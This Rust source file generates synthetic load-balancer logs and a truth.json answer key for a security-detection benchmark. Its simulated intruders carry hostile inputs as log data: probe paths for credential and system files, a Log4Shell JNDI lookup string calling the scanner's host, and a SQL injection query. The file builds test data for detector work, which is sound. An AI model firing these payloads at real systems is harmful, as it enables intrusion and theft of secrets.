//! The security precision benchmark (`hosp-logs generate --scenario security-bench`):
//! ordinary traffic of the kind that made `hosp-logs security` noisy, with seven intruders of
//! different kinds, written as ALB writes it, and a `truth.json` that names the intruders.
//!
//! Ordinary traffic: about 1,900 clinics behind NAT (addresses in 198.18.0.0/15, every
//! seventh in 2001:db8:4a1::/48), sized by a Zipf law, whose addresses carry browsers and the
//! vets' mobile app; the larger clinics run an integration (python-requests, Postman) that
//! sends a request now and then; a tenth are emergency clinics open all night; the WAF
//! blocks an ordinary request now and then. HOSP's own staff (192.0.2.0/24) and the team's
//! load test (10.99.0.21–25, 03:00–04:00 on the first day) come on top.
//!
//! The intruders (times of day on the first day, UTC; Dublin is UTC in November):
//! - `script-note-writer` 203.0.113.66, python-requests: notes at 8 a minute, 01:40–02:20;
//! - `scanner` 198.51.100.23, zgrab: probe paths answered 404, 22:00–22:20, one Log4Shell;
//! - `credential-guesser` 198.51.100.77: 30 answers 401 a minute for 8 minutes the second
//!   morning, then writes that get through;
//! - `slow-writer` 203.0.113.140, an ordinary browser: one note every 45 minutes or so,
//!   20:00 to 06:00;
//! - `ipv6-intruder` 2001:db8:bad:1::66, curl: patients and notes, 03:10–03:40;
//! - `ua-rotator` 203.0.113.201: a new user agent on every request (browsers and a few
//!   scripts), notes and SQL injection in the query, 23:00–24:00;
//! - `cdn-bypass` 198.51.100.150, Postman over plain HTTP straight to the load balancer,
//!   14:00–14:30.
//!
//! Each minute's traffic comes from a random stream of `(seed, minute)`, so the same seed and
//! options give the same bytes.
//!
//! `--variant` changes the ordinary traffic (the intruders stay) into kinds the rules were not
//! written against ([`Variant`]): mixes of app, browser and integration traffic where scripts
//! send 2 %, 12 % or 25 % of the writes, thousands of small clients writing 1 to 10 times, busy
//! NAT'd clinics, a morning when logins fail for everyone, and night-shift clinics.

use std::collections::{BTreeMap, BTreeSet};

use serde::Serialize;

use super::record::{Listener, Record, Source, TargetGroup, Tls};
use super::rng::{mix, Rng};
use super::scenario::{LEGACY_TARGETS, NODE_IPS};
use super::{
    gzip, relative_path, write_file, GenerateError, GenerateOptions, GenerateSummary, INTERVAL,
};

const US: i64 = 1_000_000;
const MINUTE: i64 = 60 * US;
const HOUR: i64 = 60 * MINUTE;

const TAG_ROSTER: u64 = 101;
const TAG_MINUTE: u64 = 102;
const TAG_FILE: u64 = 103;
const TAG_VARIANT: u64 = 104;
const TAG_SMALL: u64 = 105;

/// The benchmark's variations of ordinary traffic (`generate --variant`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Variant {
    /// The traffic the rules were tuned on: integrations in a few large clinics
    #[default]
    Base,
    /// Integrations in a third of the clinics, sending 13–15 % of their requests: about 2 %
    /// of the writes (of all writes, the load test's included)
    #[value(name = "scripts-2")]
    #[serde(rename = "scripts-2")]
    Scripts2,
    /// Integrations in half the clinics, sending 36–44 % of their requests: about 12 % of
    /// the writes
    #[value(name = "scripts-12")]
    #[serde(rename = "scripts-12")]
    Scripts12,
    /// An integration in every clinic, sending 30–36 % of its requests: about 25 % of the
    /// writes
    #[value(name = "scripts-25")]
    #[serde(rename = "scripts-25")]
    Scripts25,
    /// 6,000 small clients (phones, home offices) writing 1 to 10 times, 12 % of their writes
    /// scripted (and integrations in a third of the clinics, 9–11 % of their requests)
    SmallClients,
    /// Busy NAT'd clinics: a heavy head (a few addresses send a large part of the traffic)
    BusyNat,
    /// An outage of the identity provider: 10:00–10:40 on the first day, most requests are
    /// answered 401, for everyone
    Outage,
    /// A third of the clinics work nights (19:00–07:00)
    NightShift,
}

impl Variant {
    pub const ALL: [Variant; 8] = [
        Variant::Base,
        Variant::Scripts2,
        Variant::Scripts12,
        Variant::Scripts25,
        Variant::SmallClients,
        Variant::BusyNat,
        Variant::Outage,
        Variant::NightShift,
    ];

    /// (share of clinics with an integration, share of such a clinic's requests it sends)
    fn integrations(self) -> Option<(f64, f64)> {
        match self {
            Variant::Scripts2 => Some((0.3, 0.14)),
            Variant::Scripts12 => Some((0.5, 0.4)),
            Variant::Scripts25 => Some((1.0, 0.33)),
            Variant::SmallClients => Some((0.3, 0.1)),
            _ => None,
        }
    }
}

const CLINICS: u64 = 1900;

const BROWSERS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
];
const APPS: [&str; 2] = [
    "HOSP-Vet/3.4.1 CFNetwork/1568.100.1 Darwin/24.6.0",
    "HOSP-Vet/3.4.1 (Linux; Android 14; SM-X710)",
];
const INTEGRATIONS: [&str; 2] = ["python-requests/2.32.3", "PostmanRuntime/7.43.0"];

/// A request kind: method, path (`{id}` drawn), weight among ordinary requests.
const ROUTES: [(&str, &str, f64); 12] = [
    ("GET", "/patients", 12.0),
    ("GET", "/patients/{id}", 18.0),
    ("POST", "/patients/{id}/screen", 5.0),
    ("GET", "/notes?patient_id={id}", 18.0),
    ("GET", "/notes/{id}", 10.0),
    ("POST", "/notes", 7.0),
    ("PATCH", "/patients/{id}", 1.0),
    ("GET", "/hospitals", 6.0),
    ("GET", "/hospitals/{id}", 4.0),
    ("GET", "/staffs", 4.0),
    ("GET", "/staffs/{id}", 4.0),
    ("GET", "/", 2.0),
];

/// Relative traffic per UTC hour of an ordinary clinic (open ~07–19).
const DAY_SHAPE: [f64; 24] = [
    0.05, 0.04, 0.03, 0.03, 0.04, 0.1, 0.4, 0.9, 1.5, 1.8, 1.9, 1.9, 1.6, 1.8, 1.9, 1.8, 1.7, 1.5,
    1.1, 0.5, 0.2, 0.1, 0.08, 0.06,
];

struct Clinic {
    ip: String,
    weight: f64,
    uas: Vec<&'static str>,
    /// Open all night.
    emergency: bool,
    /// Runs an integration that sends a request now and then.
    integration: bool,
    /// The share of its requests the integration sends.
    script_rate: f64,
    /// Works nights (19:00–07:00) instead of days.
    night: bool,
}

/// Minute → the small clients' requests in it: (client, a write).
type Schedule = BTreeMap<i64, Vec<(usize, bool)>>;

/// A small client: an address that writes a few times (a phone, a home office).
struct Small {
    ip: String,
    ua: &'static str,
    /// The share of its requests sent by a script.
    script_rate: f64,
}

/// One intruder as truth.json lists it.
#[derive(Debug, Clone, Serialize)]
struct IntruderTruth {
    kind: &'static str,
    client_ip: &'static str,
    user_agents: BTreeSet<String>,
    requests: u64,
    writes: u64,
}

#[derive(Debug, Serialize)]
struct BenchTruth {
    scenario: &'static str,
    seed: u64,
    start: String,
    end: String,
    rate: f64,
    lines: u64,
    files: usize,
    /// Ordinary client addresses that sent at least one request.
    ordinary_clients: usize,
    intruders: Vec<IntruderTruth>,
    /// What a configured run lists in `[security]`.
    known_networks: [&'static str; 4],
    working_hours: &'static str,
    time_zone: &'static str,
    variant: Variant,
}

const KNOWN: [&str; 4] = [
    "198.18.0.0/15",
    "2001:db8:4a1::/48",
    "192.0.2.0/24",
    "10.99.0.0/24",
];

struct Bench {
    seed: u64,
    day0: i64,
    rate: f64,
    clinics: Vec<Clinic>,
    /// Running sums of the clinics' weights: a clinic is drawn by binary search (a linear
    /// scan over 1,900 clinics per request made ten million lines take an hour).
    cumulative: Vec<f64>,
    route_weights: Vec<f64>,
    variant: Variant,
    small: Vec<Small>,
    small_at: Schedule,
}

fn clinic_ip(i: u64) -> String {
    if i % 7 == 3 {
        format!("2001:db8:4a1:{:x}::{:x}", 0x100 + i, 1 + i % 200)
    } else {
        format!("198.18.{}.{}", i / 200, 1 + i % 200)
    }
}

/// A count around `lam` (mean `lam`, sd `sqrt(lam)`).
fn around(rng: &mut Rng, lam: f64) -> u64 {
    if lam <= 0.0 {
        return 0;
    }
    (lam + lam.sqrt() * rng.normal()).round().max(0.0) as u64
}

fn shape(tod_h: f64) -> f64 {
    let sum: f64 = DAY_SHAPE.iter().sum();
    DAY_SHAPE[(tod_h as usize).min(23)] * 24.0 / sum
}

/// How a request ends.
#[derive(Clone, Copy)]
enum End {
    /// The target answered this status.
    Target(u16),
    /// The ALB answered itself (fixed response 404, WAF 403).
    Fixed(u16, &'static str),
}

/// What one client sends in one request.
struct Send<'a> {
    ip: &'a str,
    ua: &'a str,
    method: &'static str,
    path: String,
    end: End,
    listener: Listener,
}

impl Bench {
    fn new(opts: &GenerateOptions, variant: Variant) -> Bench {
        let mut rng = Rng::from_parts(&[opts.seed, TAG_ROSTER]);
        // the variant's draws come from their own stream: the base roster stays as it was
        let mut vr = Rng::from_parts(&[opts.seed, TAG_VARIANT]);
        let start = opts.start.timestamp_micros();
        let zipf = if variant == Variant::BusyNat {
            0.8
        } else {
            1.1
        };
        let clinics: Vec<Clinic> = (0..CLINICS)
            .map(|i| {
                let mut uas = vec![APPS[rng.below(2) as usize]];
                for _ in 0..rng.range(1, 3) {
                    uas.push(BROWSERS[rng.below(BROWSERS.len() as u64) as usize]);
                }
                let mut c = Clinic {
                    ip: clinic_ip(i),
                    weight: 1.0 / ((i + 1) as f64).powf(zipf),
                    uas,
                    emergency: rng.chance(0.1),
                    integration: i < 300 && rng.chance(0.15),
                    script_rate: 0.03,
                    night: false,
                };
                if let Some((share, rate)) = variant.integrations() {
                    c.integration = vr.chance(share);
                    // integrations differ: 0.9 to 1.1 times the mean rate (none sends most of
                    // its clinic's requests)
                    c.script_rate = rate * (0.9 + 0.2 * vr.f64());
                }
                c.night = variant == Variant::NightShift && vr.chance(1.0 / 3.0);
                c
            })
            .collect();
        let (small, small_at) = match variant {
            Variant::SmallClients => small_clients(opts, 6000),
            _ => (Vec::new(), BTreeMap::new()),
        };
        let cumulative = clinics
            .iter()
            .scan(0.0, |sum, c| {
                *sum += c.weight;
                Some(*sum)
            })
            .collect();
        Bench {
            seed: opts.seed,
            day0: start.div_euclid(24 * HOUR) * 24 * HOUR,
            rate: opts.rate,
            clinics,
            cumulative,
            route_weights: ROUTES.iter().map(|r| r.2).collect(),
            variant,
            small,
            small_at,
        }
    }

    /// A clinic drawn by weight.
    fn draw(&self, rng: &mut Rng) -> &Clinic {
        let x = rng.f64() * self.cumulative.last().copied().unwrap_or(0.0);
        let at = self.cumulative.partition_point(|c| *c <= x);
        &self.clinics[at.min(self.clinics.len() - 1)]
    }

    /// Every request whose time falls in the minute starting at `m`, with its sender's kind.
    fn minute(&self, m: i64) -> Vec<(Record, Option<usize>)> {
        let mut rng = Rng::from_parts(&[self.seed, TAG_MINUTE, m as u64]);
        let mut out = Vec::new();
        let tod = (m - self.day0).rem_euclid(24 * HOUR);
        let day = (m - self.day0).div_euclid(24 * HOUR);
        let tod_h = tod as f64 / HOUR as f64;
        // ordinary clinics: daytime clinics follow the day, emergency clinics a flat night
        let lam = self.rate * 60.0;
        for _ in 0..around(&mut rng, lam * shape(tod_h)) {
            let c = self.draw(&mut rng);
            if !c.emergency && shape(tod_h) < 0.3 && rng.chance(0.7) {
                continue;
            }
            if c.night {
                continue;
            }
            out.push((self.ordinary(&mut rng, m, c), None));
        }
        // night-shift clinics: the day's shape twelve hours on
        if self.variant == Variant::NightShift {
            let night = shape((tod_h + 12.0) % 24.0);
            for _ in 0..around(&mut rng, lam * night / 3.0) {
                if let Some(c) = (0..30).map(|_| self.draw(&mut rng)).find(|c| c.night) {
                    out.push((self.ordinary(&mut rng, m, c), None));
                }
            }
        }
        // small clients: what their schedule holds for this minute
        for &(k, write) in self.small_at.get(&m).map(Vec::as_slice).unwrap_or(&[]) {
            let c = &self.small[k];
            let ua = if rng.chance(c.script_rate) {
                INTEGRATIONS[rng.below(2) as usize]
            } else {
                c.ua
            };
            let send = if write {
                let mut s = self.route_send(&mut rng, &c.ip, ua);
                s.method = "POST";
                s.path = "/notes".into();
                if let End::Target(200) = s.end {
                    s.end = End::Target(201);
                }
                s
            } else {
                let path = format!("/notes?patient_id={}", rng.range(1, 20_000));
                Send {
                    ip: &c.ip,
                    ua,
                    method: "GET",
                    path,
                    end: End::Target(200),
                    listener: Listener::Https,
                }
            };
            out.push((self.record(&mut rng, m, send), None));
        }
        // staff: HOSP's own people, office hours
        if (8.0..18.0).contains(&tod_h) {
            for _ in 0..around(&mut rng, lam * 0.02) {
                let ip = format!("192.0.2.{}", 10 + rng.below(10));
                let ua = BROWSERS[rng.below(3) as usize];
                let send = self.route_send(&mut rng, &ip, ua);
                out.push((self.record(&mut rng, m, send), None));
            }
        }
        // the load test: 03:00–04:00 on the first day, known network, k6
        if day == 0 && (3.0..4.0).contains(&tod_h) {
            for _ in 0..around(&mut rng, 300.0) {
                let ip = format!("10.99.0.{}", 21 + rng.below(5));
                let (method, path) = if rng.chance(0.6) {
                    ("POST", "/notes".to_string())
                } else {
                    ("GET", format!("/notes?patient_id={}", rng.range(1, 5000)))
                };
                let send = Send {
                    ip: &ip,
                    ua: "hosp-loadtest/1.0 (k6)",
                    method,
                    path,
                    end: End::Target(if method == "POST" { 201 } else { 200 }),
                    listener: Listener::Https,
                };
                out.push((self.record(&mut rng, m, send), None));
            }
        }
        for (k, intruder) in INTRUDERS.iter().enumerate() {
            for send in intruder.minute(&mut rng, day, tod) {
                out.push((self.record(&mut rng, m, send), Some(k)));
            }
        }
        out
    }

    fn ordinary(&self, rng: &mut Rng, m: i64, c: &Clinic) -> Record {
        let ua = if c.integration && rng.chance(c.script_rate) {
            INTEGRATIONS[rng.below(2) as usize]
        } else {
            c.uas[rng.below(c.uas.len() as u64) as usize]
        };
        let mut send = self.route_send(rng, &c.ip, ua);
        // the identity provider's outage: most requests answered 401, for everyone
        if self.variant == Variant::Outage {
            let tod = (m - self.day0).rem_euclid(24 * HOUR);
            let day = (m - self.day0).div_euclid(24 * HOUR);
            if day == 0 && (10 * HOUR..10 * HOUR + 40 * MINUTE).contains(&tod) && rng.chance(0.7) {
                send.end = End::Target(401);
            }
        }
        // the WAF blocks an ordinary request now and then (a false positive of its rules)
        if rng.chance(0.0005) {
            send.end = End::Fixed(403, "waf");
        }
        self.record(rng, m, send)
    }

    fn route_send<'a>(&self, rng: &mut Rng, ip: &'a str, ua: &'a str) -> Send<'a> {
        let (method, tpl, _) = ROUTES[rng.weighted(&self.route_weights)];
        let has_id = tpl.contains("{id}");
        let path = tpl.replace("{id}", &rng.range(1, 20_000).to_string());
        let status = match rng.weighted(&[0.01, if has_id { 0.02 } else { 0.0 }, 0.005, 1.0]) {
            0 => 401,
            1 => 404,
            2 => 500,
            _ if method == "POST" => 201,
            _ => 200,
        };
        Send {
            ip,
            ua,
            method,
            path,
            end: End::Target(status),
            listener: if rng.chance(0.9) {
                Listener::Https
            } else {
                Listener::H2
            },
        }
    }

    fn record(&self, rng: &mut Rng, m: i64, s: Send<'_>) -> Record {
        let t = m + rng.below(MINUTE as u64) as i64;
        let rct = (t - rng.range(1_000, 400_000) as i64).div_euclid(1000) * 1000;
        let (elb_status, target_status, target, times, actions, tg) = match s.end {
            End::Target(st) => (
                st,
                Some(st),
                Some(LEGACY_TARGETS[rng.below(2) as usize]),
                Some([0, rng.range(20, 900) as u32, 0]),
                "forward",
                Some(TargetGroup::Legacy),
            ),
            End::Fixed(st, what) => (st, None, None, Some([0, 0, 0]), what, None),
        };
        let tls = match s.listener {
            Listener::Http => None,
            _ => Some(Tls {
                cipher: "TLS_AES_128_GCM_SHA256",
                protocol: "TLSv1.3",
                session_reused: false,
                sni: true,
            }),
        };
        Record {
            time_us: t,
            rct_us: rct,
            listener: s.listener,
            client_ip: s.ip.to_string(),
            client_port: rng.range(1024, 65535) as u16,
            target,
            times_ms: times,
            elb_status,
            target_status,
            received_bytes: rng.range(200, 2000),
            sent_bytes: rng.range(300, 9000),
            method: s.method,
            path: s.path,
            raw_request: None,
            user_agent: s.ua.to_string(),
            tls,
            target_group: tg,
            trace_id: Some(format!("Root=1-{:08x}-{}", rct.div_euclid(US), rng.hex(24))),
            rule_priority: if actions == "forward" { "1" } else { "0" },
            actions,
            error_reason: "-",
            classification: None,
            conn_trace_id: format!("TID_{}", rng.hex(32)),
            node: rng.below(2) as u8,
            source: Source::User,
            endpoint: String::new(),
            truth_method: s.method,
            // the benchmark's clients reach the load balancer directly
            edge_id: None,
            viewer_ip: None,
        }
    }
}

/// `n` small clients in 100.64.0.0/10 (carrier-grade NAT), each writing 1 to 10 notes and
/// reading up to 10 times at daytime minutes of the window; 30 % of them have a script that
/// sends 40 % of their requests (12 % of their writes in all).
fn small_clients(opts: &GenerateOptions, n: u64) -> (Vec<Small>, Schedule) {
    let mut rng = Rng::from_parts(&[opts.seed, TAG_SMALL]);
    let start = opts.start.timestamp_micros().div_euclid(MINUTE) * MINUTE;
    let minutes = opts.duration.num_minutes().max(1) as u64;
    let day0 = start.div_euclid(24 * HOUR) * 24 * HOUR;
    let mut clients = Vec::new();
    let mut at = Schedule::new();
    for k in 0..n {
        let ua = if rng.chance(0.5) {
            APPS[rng.below(2) as usize]
        } else {
            BROWSERS[rng.below(BROWSERS.len() as u64) as usize]
        };
        clients.push(Small {
            ip: format!(
                "100.{}.{}.{}",
                64 + k / 60_000,
                (k / 250) % 240,
                1 + k % 250
            ),
            ua,
            script_rate: if rng.chance(0.3) { 0.4 } else { 0.0 },
        });
        let writes = rng.range(1, 10);
        let reads = rng.below(11);
        for j in 0..writes + reads {
            // a minute drawn by the day's shape (rejection)
            let m = loop {
                let m = start + rng.below(minutes) as i64 * MINUTE;
                let tod_h = (m - day0).rem_euclid(24 * HOUR) as f64 / HOUR as f64;
                if rng.f64() * 2.0 < shape(tod_h) {
                    break m;
                }
            };
            at.entry(m).or_default().push((k as usize, j < writes));
        }
    }
    (clients, at)
}

/// An intruder: who, and what it sends in a minute.
struct Intruder {
    kind: &'static str,
    ip: &'static str,
    /// (day, from, to) times of day in minutes: when it is active.
    active: (i64, i64, i64),
    act: fn(&mut Rng, i64, &Intruder) -> Vec<Send<'static>>,
}

const PROBES: [&str; 20] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/admin",
    "/phpmyadmin/",
    "/../../etc/passwd",
    "/cgi-bin/luci",
    "/server-status",
    "/actuator/env",
    "/config.json",
    "/backup.zip",
    "/db.sql",
    "/.aws/credentials",
    "/HNAP1/",
    "/manager/html",
    "/console/",
    "/login",
    "/shell",
    "/debug/pprof/",
    "/api/graphql",
];

/// The rotator's user agents: browsers of every kind, and a few scripts.
const ROTATION: [&str; 12] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Mobile Safari/537.36",
    "Opera/9.80 (Windows NT 6.0) Presto/2.12.388 Version/12.14",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "curl/7.88.1",
    "Go-http-client/2.0",
];

fn send(
    ip: &'static str,
    ua: &'static str,
    method: &'static str,
    path: String,
    end: End,
) -> Send<'static> {
    Send {
        ip,
        ua,
        method,
        path,
        end,
        listener: Listener::Https,
    }
}

fn note_post(ip: &'static str, ua: &'static str) -> Send<'static> {
    send(ip, ua, "POST", "/notes".into(), End::Target(201))
}

fn notes_read(rng: &mut Rng, ip: &'static str, ua: &'static str) -> Send<'static> {
    let path = format!("/notes?patient_id={}", rng.range(1, 20_000));
    send(ip, ua, "GET", path, End::Target(200))
}

/// `v` and about `n` note reads after it.
fn and_reads(
    rng: &mut Rng,
    mut v: Vec<Send<'static>>,
    n: f64,
    ip: &'static str,
    ua: &'static str,
) -> Vec<Send<'static>> {
    for _ in 0..around(rng, n) {
        v.push(notes_read(rng, ip, ua));
    }
    v
}

const INTRUDERS: [Intruder; 7] = [
    Intruder {
        kind: "script-note-writer",
        ip: "203.0.113.66",
        active: (0, 100, 140),
        act: |rng, _, i| {
            let ua = "python-requests/2.31.0";
            let v = (0..around(rng, 8.0)).map(|_| note_post(i.ip, ua)).collect();
            and_reads(rng, v, 2.0, i.ip, ua)
        },
    },
    Intruder {
        kind: "scanner",
        ip: "198.51.100.23",
        active: (0, 22 * 60, 22 * 60 + 20),
        act: |rng, minute, i| {
            let mut v: Vec<Send> = (0..around(rng, 10.0))
                .map(|_| {
                    let p = PROBES[rng.below(PROBES.len() as u64) as usize];
                    send(
                        i.ip,
                        "Mozilla/5.0 zgrab/0.x",
                        "GET",
                        p.into(),
                        End::Fixed(404, "fixed-response"),
                    )
                })
                .collect();
            if minute == 22 * 60 + 7 {
                v.push(send(
                    i.ip,
                    "${jndi:ldap://198.51.100.23:1389/Exploit}",
                    "GET",
                    "/api/v1/login".into(),
                    End::Fixed(404, "fixed-response"),
                ));
            }
            v
        },
    },
    Intruder {
        kind: "credential-guesser",
        ip: "198.51.100.77",
        active: (1, 9 * 60 + 30, 9 * 60 + 50),
        act: |rng, minute, i| {
            let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
            if minute < 9 * 60 + 38 {
                (0..around(rng, 30.0))
                    .map(|_| {
                        let path = format!("/notes?patient_id={}", rng.range(1, 20_000));
                        send(i.ip, ua, "GET", path, End::Target(401))
                    })
                    .collect()
            } else {
                and_reads(rng, vec![note_post(i.ip, ua)], 2.0, i.ip, ua)
            }
        },
    },
    Intruder {
        kind: "slow-writer",
        ip: "203.0.113.140",
        active: (0, 20 * 60, 30 * 60),
        act: |rng, _, i| {
            let ua = BROWSERS[0];
            if rng.chance(1.0 / 45.0) {
                vec![notes_read(rng, i.ip, ua), note_post(i.ip, ua)]
            } else {
                Vec::new()
            }
        },
    },
    Intruder {
        kind: "ipv6-intruder",
        ip: "2001:db8:bad:1::66",
        active: (0, 3 * 60 + 10, 3 * 60 + 40),
        act: |rng, _, i| {
            let ua = "curl/8.5.0";
            let mut v = vec![send(
                i.ip,
                ua,
                "PATCH",
                format!("/patients/{}", rng.range(1, 20_000)),
                End::Target(200),
            )];
            v.extend((0..around(rng, 2.0)).map(|_| note_post(i.ip, ua)));
            and_reads(rng, v, 2.0, i.ip, ua)
        },
    },
    Intruder {
        kind: "ua-rotator",
        ip: "203.0.113.201",
        active: (0, 23 * 60, 24 * 60),
        act: |rng, _, i| {
            let mut ua = || ROTATION[rng.below(ROTATION.len() as u64) as usize];
            let mut v: Vec<Send> = (0..3).map(|_| note_post(i.ip, ua())).collect();
            let sqli = send(
                i.ip,
                ua(),
                "GET",
                "/notes?patient_id=1'+OR+'1'='1".into(),
                End::Target(500),
            );
            v.push(sqli);
            let u = ua();
            v.push(notes_read(rng, i.ip, u));
            v
        },
    },
    Intruder {
        kind: "cdn-bypass",
        ip: "198.51.100.150",
        active: (0, 14 * 60, 14 * 60 + 30),
        act: |rng, _, i| {
            let ua = "PostmanRuntime/7.43.0";
            let mut v = vec![note_post(i.ip, ua), note_post(i.ip, ua)];
            v.push(notes_read(rng, i.ip, ua));
            for s in &mut v {
                s.listener = Listener::Http;
            }
            v
        },
    },
];

impl Intruder {
    fn minute(&self, rng: &mut Rng, day: i64, tod: i64) -> Vec<Send<'static>> {
        let minute = tod / MINUTE + day * 24 * 60;
        let (d, from, to) = self.active;
        let (from, to) = (from + d * 24 * 60, to + d * 24 * 60);
        if minute < from || minute >= to {
            return Vec::new();
        }
        (self.act)(rng, minute - d * 24 * 60, self)
    }
}

/// Writes the benchmark's logs and truth into `opts.out`.
pub fn run(opts: &GenerateOptions, variant: Variant) -> Result<GenerateSummary, GenerateError> {
    let start = opts.start.timestamp_micros();
    let end = start
        + opts
            .duration
            .num_microseconds()
            .filter(|d| *d > 0)
            .ok_or_else(|| GenerateError::InvalidOptions("duration must be positive".into()))?;
    let bench = Bench::new(opts, variant);
    let mut truth: Vec<IntruderTruth> = INTRUDERS
        .iter()
        .map(|i| IntruderTruth {
            kind: i.kind,
            client_ip: i.ip,
            user_agents: BTreeSet::new(),
            requests: 0,
            writes: 0,
        })
        .collect();
    let mut ordinary: BTreeMap<String, u64> = BTreeMap::new();
    let (mut lines, mut files) = (0u64, 0usize);
    let first = start.div_euclid(INTERVAL) * INTERVAL;
    let mut a = first;
    while a < end {
        let b = a + INTERVAL;
        let mut recs: Vec<(Record, Option<usize>)> = Vec::new();
        let mut m = a.max(start.div_euclid(MINUTE) * MINUTE);
        while m < b.min(end) {
            recs.extend(
                bench
                    .minute(m)
                    .into_iter()
                    .filter(|r| r.0.time_us >= start && r.0.time_us < end),
            );
            m += MINUTE;
        }
        recs.sort_by_key(|r| r.0.time_us);
        for node in 0..NODE_IPS.len() {
            let mut text = String::new();
            for (r, who) in recs.iter().filter(|r| usize::from(r.0.node) == node) {
                r.write_line(&mut text);
                text.push('\n');
                lines += 1;
                match who {
                    Some(k) => {
                        let t = &mut truth[*k];
                        t.requests += 1;
                        t.writes += u64::from(r.method != "GET");
                        t.user_agents.insert(r.user_agent.clone());
                    }
                    None => *ordinary.entry(r.client_ip.clone()).or_default() += 1,
                }
            }
            let suffix = Rng::new(mix(&[bench.seed, TAG_FILE, b as u64, node as u64])).alnum(8);
            let path = opts.out.join(relative_path(b, node, &suffix));
            write_file(&path, &gzip(text.as_bytes(), &path)?)?;
            files += 1;
        }
        a = b;
    }
    let fmt = |us: i64| {
        chrono::DateTime::from_timestamp_micros(us)
            .expect("in range")
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    };
    let t = BenchTruth {
        scenario: "security-bench",
        seed: opts.seed,
        start: fmt(start),
        end: fmt(end),
        rate: opts.rate,
        lines,
        files,
        ordinary_clients: ordinary.len(),
        intruders: truth,
        known_networks: KNOWN,
        working_hours: "07:00-19:00",
        time_zone: "Europe/Dublin",
        variant,
    };
    let truth_path = opts.out.join("truth.json");
    let mut json = serde_json::to_string_pretty(&t)?;
    json.push('\n');
    write_file(&truth_path, json.as_bytes())?;
    Ok(GenerateSummary {
        files,
        lines,
        truth_path,
    })
}
